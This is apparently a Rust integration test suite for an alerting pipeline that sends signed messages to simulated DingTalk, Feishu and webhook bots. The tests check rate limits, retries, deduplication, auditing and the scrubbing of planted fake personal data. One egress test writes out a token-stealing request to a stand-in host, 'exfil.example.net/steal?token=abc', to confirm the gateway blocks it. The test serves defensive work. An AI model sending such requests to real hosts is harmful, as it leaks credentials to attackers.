//! The alert pipeline against the DingTalk, Feishu and webhook bot simulators over HTTPS
//! on loopback, with a real database (SQLite; PostgreSQL too when STOCKADE_TEST_PG_URL
//! is set) and a real vault. The bots verify every signature, timestamp, keyword and
//! rate limit as the platforms do, so an accepted message is a correctly signed one.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::HashSet;
use std::sync::Arc;
use std::time::{Duration, Instant};

use stockade_alerts::{Alerts, AlertsConfig, ChannelConfig, ChannelKind, Outcome};
use stockade_core::time::now_ms;
use stockade_core::{Actor, Environment, SecretString};
use stockade_egress::{Caller, EgressConfig, Gateway, Request};
use stockade_sandbox::bots::{
    BotFault, Bots, BotsConfig, DingTalkAppSpec, DingTalkRobot, DingTalkRobotSpec, FeishuBotSpec,
    Received, WebhookSpec,
};
use stockade_store::{
    AuditDetails, AuditEntry, Change, Expect, Mutation, Store, StoreOptions, sql_params,
};
use stockade_testkit::Db;
use stockade_vault::{
    CredentialScopes, KeyOwner, MasterKeySource, MasterKeys, NewCredential, Vault,
};

const ACTOR: Actor = Actor::System("test");

/// Planted buyer data: none of it may reach a bot.
const PLANTED: &[&str] = &[
    "jane.doe+orders@example.com",
    "+86 138 0013 8000",
    "4111 1111 1111 1111",
    "1600 Amphitheatre Parkway",
    "Jane Q. Buyer",
    "sk_live_51HxYzAbCdEfGhIjKlMnOpQr",
];

struct Rig {
    db: Option<Db>,
    store: Store,
    vault: Arc<Vault>,
    gateway: Gateway,
    bots: Bots,
    ding: DingTalkRobot,
    config: AlertsConfig,
}

async fn put(vault: &Vault, name: &str, value: &str) {
    vault
        .put_credential(
            &NewCredential {
                name,
                kind: "alert_secret",
                secret: &SecretString::from(value.to_owned()),
                owner: &KeyOwner::system(),
                scopes: &CredentialScopes::default(),
                account: None,
            },
            &ACTOR,
        )
        .await
        .unwrap();
}

impl Rig {
    async fn start(db: Db, bots_config: BotsConfig) -> Rig {
        let key_path = db.dir.join("master.key");
        let master =
            MasterKeys::generate(Environment::Dev, MasterKeySource::File(key_path.clone()))
                .unwrap();
        master.write_new_file(&key_path).unwrap();
        let (store, _) = Store::init(&db.url, Environment::Dev, &StoreOptions::default())
            .await
            .unwrap();
        let vault = Arc::new(
            Vault::bootstrap(store.clone(), master, &ACTOR)
                .await
                .unwrap(),
        );
        let bots = Bots::start(bots_config).await.unwrap();
        let host = bots.base_url.trim_start_matches("https://").to_owned();
        let mut egress = EgressConfig::new(Environment::Dev);
        egress.allowed_hosts = vec![host.clone(), "marketplace.example.com".into()];
        egress.extra_root_pems = vec![bots.ca_pem.clone()];
        egress.request_timeout = Duration::from_secs(3);
        egress.max_attempts = 1;
        let gateway = Gateway::new(egress, Some(store.clone())).unwrap();

        let ding = bots.add_dingtalk(DingTalkRobotSpec {
            name: "ding".into(),
            sign: true,
            keywords: vec!["Stockade".into()],
            ip_allow: vec![],
        });
        let feishu = bots.add_feishu(FeishuBotSpec {
            name: "feishu".into(),
            sign: true,
            keywords: vec!["Stockade".into()],
            ip_allow: vec![],
        });
        let app = bots.add_dingtalk_app(DingTalkAppSpec { name: "app".into() });
        let hook = bots.add_webhook(WebhookSpec {
            name: "hook".into(),
        });
        put(&vault, "alert/ding/access_token", &ding.access_token).await;
        put(&vault, "alert/ding/secret", ding.secret.as_deref().unwrap()).await;
        put(&vault, "alert/feishu/hook_id", &feishu.hook_id).await;
        put(
            &vault,
            "alert/feishu/secret",
            feishu.secret.as_deref().unwrap(),
        )
        .await;
        put(&vault, "alert/app/app_key", &app.app_key).await;
        put(&vault, "alert/app/app_secret", &app.app_secret).await;
        put(&vault, "alert/hook/secret", &hook.secret).await;

        let base = &bots.base_url;
        let mut d =
            ChannelConfig::new("ding", ChannelKind::Dingtalk, &format!("{base}/robot/send"));
        d.keyword = Some("Stockade".into());
        d.throttle_backoff = Duration::from_secs(2);
        let mut f = ChannelConfig::new(
            "feishu",
            ChannelKind::Feishu,
            &format!("{base}/open-apis/bot/v2/hook"),
        );
        f.keyword = Some("Stockade".into());
        f.throttle_backoff = Duration::from_secs(1);
        let mut a = ChannelConfig::new("app", ChannelKind::DingtalkApp, base);
        a.robot_code = Some(app.robot_code.clone());
        a.conversation = Some(app.open_conversation_id.clone());
        a.throttle_backoff = Duration::from_secs(2);
        let w = ChannelConfig::new("hook", ChannelKind::Webhook, &hook.url);
        let config = AlertsConfig {
            channels: vec![d, f, a, w],
            window: Duration::from_secs(3),
            dashboard_url: Some("https://stockade.example.com".into()),
            poll_interval: Duration::from_millis(200),
            retry_base: Duration::from_millis(200),
            retry_max: Duration::from_secs(2),
            ..AlertsConfig::default()
        };
        Rig {
            db: Some(db),
            store,
            vault,
            gateway,
            bots,
            ding,
            config,
        }
    }

    async fn alerts(&self) -> Alerts {
        Alerts::start(
            self.store.clone(),
            self.vault.clone(),
            &self.gateway,
            self.config.clone(),
        )
        .await
        .unwrap()
    }

    /// Record a sync error event as the sync engine does (an audited change).
    async fn sync_failure(&self, connection: &str, class: &str, message: &str) -> i64 {
        let detail = serde_json::json!({
            "connection": connection, "class": class, "attempts": 5, "listings": 3,
            "message": message,
            // Keys outside the allow-list must never reach a bot.
            "buyer_name": "Jane Q. Buyer", "buyer_email": "jane.doe+orders@example.com",
        });
        self.store
            .commit(
                &ACTOR,
                vec![Change::new(
                    Mutation::Sql {
                        statement: "INSERT INTO events (at_ms, source, kind, caller, host, path_template, operation, status, detail)
                                    VALUES ($1, 'sync', 'push_failed', $2, '', '', 'set_quantities', 503, $3)",
                        params: sql_params![now_ms(), format!("connection:{connection}"), detail.to_string()],
                        expect: Expect::One("event"),
                    },
                    AuditEntry::new("sync.event", format!("connection:{connection}"), AuditDetails::new()),
                )],
            )
            .await
            .unwrap();
        self.store
            .query_one("SELECT MAX(id) FROM events", vec![])
            .await
            .unwrap()
            .unwrap()
            .decode::<i64>()
            .unwrap()
    }

    async fn finish(mut self) {
        self.bots.shutdown().await;
        let db = self.db.take().unwrap();
        self.store.close().await;
        db.cleanup().await;
    }
}

fn planted_message() -> String {
    format!(
        "upstream 503: buyer {} <{}> phone {} card {} ships to {} token={}",
        PLANTED[4], PLANTED[0], PLANTED[1], PLANTED[2], PLANTED[3], PLANTED[5]
    )
}

/// Every request any bot received, as text (query, headers and body).
fn all_text(rs: &[Received]) -> String {
    let mut s = String::new();
    for r in rs {
        s.push_str(&r.query);
        s.push_str(&r.body.to_string());
        for (_, v) in &r.headers {
            s.push_str(v);
        }
    }
    s
}

fn assert_no_pii(rs: &[Received]) {
    let text = all_text(rs);
    for p in PLANTED {
        assert!(!text.contains(p), "planted {p:?} reached a bot");
        let digits: String = p.chars().filter(char::is_ascii_digit).collect();
        if digits.len() >= 7 {
            assert!(!text.contains(&digits), "digits of {p:?} reached a bot");
        }
    }
}

/// The message text a bot shows (markdown or card), to read counts and event ids.
fn shown(r: &Received) -> String {
    let b = &r.body;
    let mut s = String::new();
    for v in [
        &b["markdown"]["text"],
        &b["markdown"]["title"],
        &b["actionCard"]["text"],
        &b["actionCard"]["title"],
        &b["card"]["header"]["title"]["content"],
        &b["card"]["body"]["elements"][0]["content"],
        &b["title"],
    ] {
        if let Some(t) = v.as_str() {
            s.push_str(t);
            s.push('\n');
        }
    }
    // The app robot's message is a JSON string inside the body.
    if let Some(p) = b["msgParam"].as_str() {
        let p: serde_json::Value = serde_json::from_str(p).unwrap();
        for k in ["title", "text"] {
            if let Some(t) = p[k].as_str() {
                s.push_str(t);
                s.push('\n');
            }
        }
    }
    if b["alerts"].is_array() {
        s.push_str(&b["alerts"].to_string());
    }
    s
}

async fn wait_for(what: &str, timeout: Duration, mut f: impl FnMut() -> bool) {
    let start = Instant::now();
    while !f() {
        assert!(start.elapsed() < timeout, "timed out waiting for {what}");
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
}

const BOT_NAMES: [&str; 4] = ["ding", "feishu", "app", "hook"];

/// Accepted messages only (app token grants are not messages).
fn messages(bots: &Bots, name: &str) -> Vec<Received> {
    bots.accepted(name)
        .into_iter()
        .filter(|r| !r.path.ends_with("/accessToken"))
        .collect()
}

async fn one_failure_one_alert_per_channel(db: Db) {
    let rig = Rig::start(db, BotsConfig::default()).await;
    let alerts = rig.alerts().await;
    let t0 = Instant::now();
    let event = rig
        .sync_failure("tiktok-main", "server", &planted_message())
        .await;
    wait_for("one message on every bot", Duration::from_secs(1), || {
        BOT_NAMES.iter().all(|b| messages(&rig.bots, b).len() == 1)
    })
    .await;
    eprintln!("first alert on all four channels after {:?}", t0.elapsed());
    for b in BOT_NAMES {
        let m = messages(&rig.bots, b);
        let text = shown(&m[0]);
        assert!(text.contains("tiktok-main"), "{b}: {text}");
        assert!(
            text.contains(&format!("event {event}"))
                || text.contains(&format!("\"event_id\":{event}")),
            "{b}: {text}"
        );
        assert!(text.to_lowercase().contains("error"), "{b}: {text}");
    }
    // Signed as each platform specifies: the bots verified it; and the keyword is there.
    let ding = &messages(&rig.bots, "ding")[0];
    assert!(ding.query.contains("timestamp=") && ding.query.contains("sign="));
    assert!(shown(ding).contains("Stockade"));
    let f = &messages(&rig.bots, "feishu")[0];
    assert!(f.body["sign"].is_string() && f.body["timestamp"].is_string());
    assert_eq!(f.body["msg_type"], "interactive");
    let h = &messages(&rig.bots, "hook")[0];
    assert!(
        h.header("x-stockade-signature")
            .unwrap()
            .starts_with("sha256=")
    );

    // Repeats of the same source and error class fold into one follow-up per channel.
    for _ in 0..5 {
        rig.sync_failure("tiktok-main", "server", &planted_message())
            .await;
    }
    tokio::time::sleep(Duration::from_millis(800)).await;
    for b in BOT_NAMES {
        assert_eq!(
            messages(&rig.bots, b).len(),
            1,
            "{b} got a repeat before the window closed"
        );
    }
    wait_for("the follow-up", Duration::from_secs(6), || {
        BOT_NAMES.iter().all(|b| messages(&rig.bots, b).len() == 2)
    })
    .await;
    for b in ["ding", "feishu"] {
        let text = shown(&messages(&rig.bots, b)[1]);
        assert!(text.contains("×5"), "{b}: {text}");
    }
    assert_eq!(messages(&rig.bots, "hook")[1].body["alerts"][0]["count"], 5);
    // A different error class is a new first alert.
    rig.sync_failure("tiktok-main", "auth", "401 from upstream")
        .await;
    wait_for("the new class", Duration::from_secs(2), || {
        BOT_NAMES.iter().all(|b| messages(&rig.bots, b).len() == 3)
    })
    .await;
    assert_no_pii(&rig.bots.received());

    // Deliveries are audited with channel, status and attempts; the chain verifies.
    // (A bot records a message before the sender commits its outcome: wait for the rows.)
    let start = Instant::now();
    let rows = loop {
        let rows = rig.store.audit_rows(0, 10_000).await.unwrap();
        let n = rows.iter().filter(|r| r.action == "alert.delivery").count();
        if n >= 12 {
            break rows;
        }
        assert!(
            start.elapsed() < Duration::from_secs(3),
            "{n} delivery audit rows"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let deliveries: Vec<_> = rows
        .iter()
        .filter(|r| r.action == "alert.delivery")
        .collect();
    for d in &deliveries {
        let text = d.details.to_string();
        assert!(
            text.contains("\"channel\"")
                && text.contains("\"status\":\"delivered\"")
                && text.contains("\"attempts\":1"),
            "{text}"
        );
        for p in PLANTED {
            assert!(!text.contains(p));
        }
    }
    assert!(
        rig.store
            .verify_audit(None)
            .await
            .unwrap()
            .problem
            .is_none()
    );
    alerts.shutdown().await;
    rig.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_sync_task_gives_one_signed_alert_per_channel() {
    one_failure_one_alert_per_channel(Db::sqlite()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_sync_task_gives_one_signed_alert_per_channel_postgres() {
    if let Some(db) = Db::postgres() {
        one_failure_one_alert_per_channel(db).await;
    }
}

/// The largest number of accepted messages of `rs` inside any window of `span`.
fn max_in_window(rs: &[Received], span_ms: i64) -> usize {
    let times: Vec<i64> = rs.iter().map(|r| r.at_ms).collect();
    let mut best = 0;
    for (i, t) in times.iter().enumerate() {
        let n = times[i..].iter().take_while(|u| **u < t + span_ms).count();
        best = best.max(n);
    }
    best
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn three_hundred_failures_in_a_minute_stay_within_rate_limits_and_lose_nothing() {
    let rig = Rig::start(Db::sqlite(), BotsConfig::default()).await;
    let alerts = rig.alerts().await;
    // 300 failures over ~6 s: 150 distinct (connection, class) pairs, each failing twice.
    let mut ids = Vec::new();
    for round in 0..2 {
        for i in 0..150 {
            let id = rig
                .sync_failure(&format!("shop-{i:03}"), "server", &planted_message())
                .await;
            ids.push(id);
            if i % 25 == 0 {
                tokio::time::sleep(Duration::from_millis(100 + round * 50)).await;
            }
        }
    }
    let first_ids: HashSet<i64> = ids[..150].iter().copied().collect();
    // Every first alert reaches every chat bot, within the rate limits.
    for b in ["ding", "feishu", "app"] {
        wait_for(
            &format!("all 150 first alerts on {b}"),
            Duration::from_secs(70),
            || {
                let text: String = messages(&rig.bots, b).iter().map(shown).collect();
                first_ids.iter().all(|id| {
                    text.contains(&format!("event {id}\n"))
                        || text.contains(&format!("event {id} "))
                })
            },
        )
        .await;
    }
    // The repeats fold into follow-ups that count them: 150 more events.
    wait_for("the follow-ups", Duration::from_secs(70), || {
        let events: i64 = messages(&rig.bots, "hook")
            .iter()
            .map(|r| r.body["events"].as_i64().unwrap())
            .sum();
        events == 300
    })
    .await;
    let all = rig.bots.received();
    // Nothing was refused for speed; no minute held more than the platform allows.
    for r in &all {
        assert!(
            !matches!(r.code.as_str(), "130101" | "11232") && !r.code.contains("QpsLimit"),
            "{} was rate-limited: {} {}",
            r.bot,
            r.code,
            r.message
        );
    }
    let ding = messages(&rig.bots, "ding");
    let feishu = messages(&rig.bots, "feishu");
    assert!(
        max_in_window(&ding, 60_000) <= 20,
        "{}",
        max_in_window(&ding, 60_000)
    );
    assert!(max_in_window(&feishu, 1000) <= 5);
    assert!(max_in_window(&feishu, 60_000) <= 100);
    eprintln!(
        "300 failures: dingtalk {} messages, feishu {}, app {}, webhook {}",
        ding.len(),
        feishu.len(),
        messages(&rig.bots, "app").len(),
        messages(&rig.bots, "hook").len()
    );
    // Lose nothing: the outbox accounts for every event on every channel (the slowest,
    // DingTalk at 18 a minute, sends its follow-ups when its budget allows).
    let start = Instant::now();
    loop {
        let mut sums = Vec::new();
        for b in BOT_NAMES {
            let row = rig
                .store
                .query_one(
                    "SELECT COALESCE(SUM(events), 0) FROM alert_outbox WHERE channel = $1 AND state = 'sent'",
                    sql_params![b],
                )
                .await
                .unwrap()
                .unwrap();
            sums.push(row.decode::<i64>().unwrap());
        }
        if sums.iter().all(|n| *n == 300) {
            break;
        }
        assert!(sums.iter().all(|n| *n <= 300), "{sums:?}");
        assert!(
            start.elapsed() < Duration::from_secs(90),
            "events sent per channel: {sums:?}"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    let all = rig.bots.received();
    for r in &all {
        assert!(
            !matches!(r.code.as_str(), "130101" | "11232") && !r.code.contains("QpsLimit"),
            "{} was rate-limited: {} {}",
            r.bot,
            r.code,
            r.message
        );
    }
    let ding = messages(&rig.bots, "ding");
    assert!(
        max_in_window(&ding, 60_000) <= 20,
        "{}",
        max_in_window(&ding, 60_000)
    );
    assert_no_pii(&all);
    alerts.shutdown().await;
    rig.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_throttled_or_down_bot_gets_the_alert_later_even_across_a_restart() {
    let rig = Rig::start(
        Db::sqlite(),
        BotsConfig {
            dingtalk_penalty: Duration::from_secs(2),
            ..BotsConfig::default()
        },
    )
    .await;
    rig.bots.set_fault("ding", BotFault::Throttle);
    rig.bots.set_fault("feishu", BotFault::Down);
    let alerts = rig.alerts().await;
    let id = rig.sync_failure("amazon-eu", "server", "boom").await;
    // DingTalk answers 130101 (inside HTTP 200): a failure, retried after the backoff.
    wait_for("a 130101 answer", Duration::from_secs(2), || {
        rig.bots
            .received()
            .iter()
            .any(|r| r.bot == "ding" && r.code == "130101")
    })
    .await;
    wait_for("a 503 answer", Duration::from_secs(2), || {
        rig.bots
            .received()
            .iter()
            .any(|r| r.bot == "feishu" && r.code == "503")
    })
    .await;
    assert!(messages(&rig.bots, "ding").is_empty());
    // Stop while Feishu is still down: the row stays in the outbox.
    alerts.shutdown().await;
    let pending = rig
        .store
        .query_one(
            "SELECT COUNT(*) FROM alert_outbox WHERE channel = 'feishu' AND state = 'pending'",
            vec![],
        )
        .await
        .unwrap()
        .unwrap()
        .decode::<i64>()
        .unwrap();
    assert_eq!(pending, 1);
    rig.bots.set_fault("feishu", BotFault::None);
    let alerts = rig.alerts().await;
    wait_for(
        "delivery after the throttle and the outage",
        Duration::from_secs(10),
        || messages(&rig.bots, "ding").len() == 1 && messages(&rig.bots, "feishu").len() == 1,
    )
    .await;
    assert!(shown(&messages(&rig.bots, "feishu")[0]).contains(&format!("event {id}")));
    // Both channels are back to ok, nothing left pending. The bot sees the message before
    // the sender commits the delivery, so wait for the outbox to catch up.
    let start = Instant::now();
    loop {
        let statuses = stockade_alerts::channel_statuses(&rig.store).await.unwrap();
        let states: Vec<_> = ["ding", "feishu"]
            .iter()
            .map(|name| statuses.iter().find(|s| s.name == *name).unwrap())
            .collect();
        if states
            .iter()
            .all(|s| (s.status.as_str(), s.pending, s.held) == ("ok", 0, 0))
        {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(5),
            "channels not back to ok: {states:?}"
        );
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    let audit = rig.store.audit_rows(0, 10_000).await.unwrap();
    let text: Vec<String> = audit
        .iter()
        .filter(|r| r.action == "alert.delivery")
        .map(|r| r.details.to_string())
        .collect();
    assert!(
        text.iter()
            .any(|t| t.contains("\"channel\":\"ding\"") && t.contains("rate_limited")),
        "{text:?}"
    );
    assert!(
        text.iter()
            .any(|t| t.contains("\"channel\":\"feishu\"") && t.contains("\"status\":\"failed\""))
    );
    assert!(text.iter().any(|t| t.contains("\"channel\":\"feishu\"")
        && t.contains("delivered")
        && !t.contains("\"attempts\":1")));
    alerts.shutdown().await;
    rig.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_wrong_secret_is_a_clear_configuration_error_raised_elsewhere() {
    let rig = Rig::start(Db::sqlite(), BotsConfig::default()).await;
    // The right token, a wrong signing secret.
    put(
        &rig.vault,
        "alert/ding/secret",
        "SECnotthesecretatall0000000000000000000000000000000000000000000000",
    )
    .await;
    // alert test says so in plain words.
    let ding_cfg = rig.config.channel("ding").unwrap().clone();
    let outcome = stockade_alerts::test_channel(
        &rig.store,
        &rig.vault,
        &rig.gateway,
        &ding_cfg,
        None,
        stockade_alerts::Language::En,
        &ACTOR,
    )
    .await
    .unwrap();
    match &outcome {
        Outcome::Config { detail } => {
            assert!(
                detail.contains("310000") && detail.contains("signing secret"),
                "{detail}"
            );
        }
        other => panic!("expected a configuration error, got {other:?}"),
    }
    let alerts = rig.alerts().await;
    rig.sync_failure("ebay-us", "server", "boom").await;
    // The other channels hear that DingTalk is misconfigured (and get the alert itself).
    wait_for(
        "the misconfiguration alert on feishu",
        Duration::from_secs(3),
        || {
            messages(&rig.bots, "feishu")
                .iter()
                .any(|r| shown(r).contains("Alert channel ding is misconfigured"))
        },
    )
    .await;
    let attempts_then = rig
        .bots
        .received()
        .iter()
        .filter(|r| r.bot == "ding")
        .count();
    // Not retried: DingTalk sees no further attempts while the channel is held.
    rig.sync_failure("ebay-us", "auth", "another").await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(
        rig.bots
            .received()
            .iter()
            .filter(|r| r.bot == "ding")
            .count(),
        attempts_then
    );
    let statuses = stockade_alerts::channel_statuses(&rig.store).await.unwrap();
    let ding = statuses.iter().find(|s| s.name == "ding").unwrap();
    assert_eq!(ding.status, "misconfigured");
    assert!(ding.held >= 2, "{ding:?}");
    assert!(
        ding.last_error
            .as_deref()
            .unwrap()
            .contains("signing secret")
    );
    // Nothing about the misconfigured channel is sent to itself.
    assert!(messages(&rig.bots, "ding").is_empty());
    // Fixed secret: the test message goes through and the held alerts follow.
    put(
        &rig.vault,
        "alert/ding/secret",
        rig.ding.secret.as_deref().unwrap(),
    )
    .await;
    let outcome = stockade_alerts::test_channel(
        &rig.store,
        &rig.vault,
        &rig.gateway,
        &ding_cfg,
        None,
        stockade_alerts::Language::En,
        &ACTOR,
    )
    .await
    .unwrap();
    assert!(matches!(outcome, Outcome::Delivered { .. }), "{outcome:?}");
    wait_for("the held alerts", Duration::from_secs(5), || {
        let text: String = messages(&rig.bots, "ding").iter().map(shown).collect();
        text.contains("ebay-us")
    })
    .await;
    alerts.shutdown().await;
    rig.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_anomalies_are_alerted_per_connection_but_not_the_alert_channels_own() {
    let rig = Rig::start(Db::sqlite(), BotsConfig::default()).await;
    let alerts = rig.alerts().await;
    // An unauthorized outbound attempt: blocked by the gateway, never sent.
    let egress = rig.gateway.client(
        Caller::Connection("tiktok-main".into()),
        &["open-api.tiktokglobalshop.com"],
    );
    let err = egress
        .send(Request::get(
            "https://exfil.example.net/steal?token=abc",
            "/steal",
            "steal",
        ))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("blocked"));
    rig.gateway.flush().await.unwrap();
    wait_for("the blocked-request alert", Duration::from_secs(2), || {
        messages(&rig.bots, "feishu").iter().any(|r| {
            let t = shown(r);
            t.contains("CRITICAL") && t.contains("exfil.example.net") && t.contains("tiktok-main")
        })
    })
    .await;
    let text = all_text(&rig.bots.received());
    assert!(!text.contains("token=abc"));
    // A bot that is down makes egress anomalies for the alerts caller: not alerted (no loop).
    rig.bots.set_fault("hook", BotFault::Down);
    rig.sync_failure("x", "server", "y").await;
    wait_for("a failed webhook delivery", Duration::from_secs(3), || {
        rig.bots
            .received()
            .iter()
            .any(|r| r.bot == "hook" && r.code == "503")
    })
    .await;
    rig.gateway.flush().await.unwrap();
    tokio::time::sleep(Duration::from_millis(600)).await;
    let routed = rig
        .store
        .query_one(
            "SELECT COUNT(*) FROM events WHERE source = 'egress' AND caller = 'alerts:hook' AND delivered_at_ms IS NOT NULL",
            vec![],
        )
        .await
        .unwrap()
        .unwrap()
        .decode::<i64>()
        .unwrap();
    assert!(routed >= 1);
    let about_hook = messages(&rig.bots, "feishu")
        .iter()
        .filter(|r| shown(r).contains("alerts:hook"))
        .count();
    assert_eq!(about_hook, 0);
    alerts.shutdown().await;
    // Delivered rows past their retention are pruned; undelivered ones never are.
    let count = |state: &'static str| {
        let store = rig.store.clone();
        async move {
            store
                .query_one(
                    "SELECT COUNT(*) FROM alert_outbox WHERE state = $1",
                    sql_params![state],
                )
                .await
                .unwrap()
                .unwrap()
                .decode::<i64>()
                .unwrap()
        }
    };
    let (sent, pending) = (count("sent").await, count("pending").await);
    assert!(sent >= 3 && pending >= 1, "{sent} {pending}");
    rig.store
        .write_unaudited("UPDATE alert_outbox SET sent_at_ms = 1, next_at_ms = 1 WHERE sent_at_ms IS NOT NULL OR state = 'pending'", vec![])
        .await
        .unwrap();
    let pruned = stockade_alerts::pipeline::prune(&rig.store, Duration::from_secs(3600))
        .await
        .unwrap();
    assert_eq!(pruned, u64::try_from(sent).unwrap());
    assert_eq!((count("sent").await, count("pending").await), (0, pending));
    rig.finish().await;
}

/// The router reads the event stream after its persisted cursor: events raised while it
/// is stopped are routed after the restart, and no event is routed (alerted) twice.
async fn each_event_is_alerted_exactly_once_across_router_restarts(db: Db) {
    let rig = Rig::start(db, BotsConfig::default()).await;
    let outbox_events = |store: Store| async move {
        let rows = store
            .query(
                "SELECT alert FROM alert_outbox WHERE channel = 'hook' ORDER BY id",
                vec![],
            )
            .await
            .unwrap();
        rows.iter()
            .map(|r| {
                serde_json::from_str::<stockade_alerts::Alert>(&r.decode::<String>().unwrap())
                    .unwrap()
            })
            .filter(|a| a.since_ms.is_none())
            .map(|a| a.event_id)
            .collect::<Vec<i64>>()
    };
    let cursor = |store: Store| async move {
        store
            .query_one(
                "SELECT last_id FROM event_cursors WHERE subscriber = 'alerts'",
                vec![],
            )
            .await
            .unwrap()
            .map_or(0, |r| r.decode::<i64>().unwrap())
    };
    // The running router routes on its own (a concurrent `route_now` would lose the
    // race for the cursor and fail, which is the guard against routing twice).
    let routed_up_to = |id: i64| {
        let store = rig.store.clone();
        async move {
            let deadline = Instant::now() + Duration::from_secs(5);
            while cursor(store.clone()).await < id {
                assert!(Instant::now() < deadline, "event {id} was not routed");
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
    };
    let mut raised = Vec::new();
    // Distinct connections: distinct aggregation keys, so each event is its own alert.
    raised.push(rig.sync_failure("shop-1", "server", "boom").await);
    for round in 0..3 {
        let alerts = rig.alerts().await;
        routed_up_to(*raised.last().unwrap()).await;
        raised.push(
            rig.sync_failure(&format!("shop-{round}-a"), "server", "boom")
                .await,
        );
        routed_up_to(*raised.last().unwrap()).await;
        alerts.shutdown().await;
        // Raised while no router runs.
        raised.push(
            rig.sync_failure(&format!("shop-{round}-b"), "server", "boom")
                .await,
        );
    }
    let alerts = rig.alerts().await;
    routed_up_to(*raised.last().unwrap()).await;
    let routed = outbox_events(rig.store.clone()).await;
    let unique: HashSet<i64> = routed.iter().copied().collect();
    assert_eq!(
        unique.len(),
        routed.len(),
        "an event was routed twice: {routed:?}"
    );
    assert_eq!(
        unique,
        raised.iter().copied().collect::<HashSet<i64>>(),
        "every event routed once"
    );
    assert_eq!(Some(&cursor(rig.store.clone()).await), raised.iter().max());
    // And every one of them reaches the webhook.
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let unsent = rig
            .store
            .query_one(
                "SELECT COUNT(*) FROM alert_outbox WHERE channel = 'hook' AND state <> 'sent'",
                vec![],
            )
            .await
            .unwrap()
            .unwrap()
            .decode::<i64>()
            .unwrap();
        if unsent == 0 {
            break;
        }
        assert!(Instant::now() < deadline, "{unsent} alerts not sent");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(!messages(&rig.bots, "hook").is_empty());
    alerts.shutdown().await;
    rig.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_event_is_alerted_exactly_once_across_router_restarts_sqlite() {
    each_event_is_alerted_exactly_once_across_router_restarts(Db::sqlite()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_event_is_alerted_exactly_once_across_router_restarts_postgres() {
    if let Some(db) = Db::postgres() {
        each_event_is_alerted_exactly_once_across_router_restarts(db).await;
    }
}

mod fencing;
mod route_now;
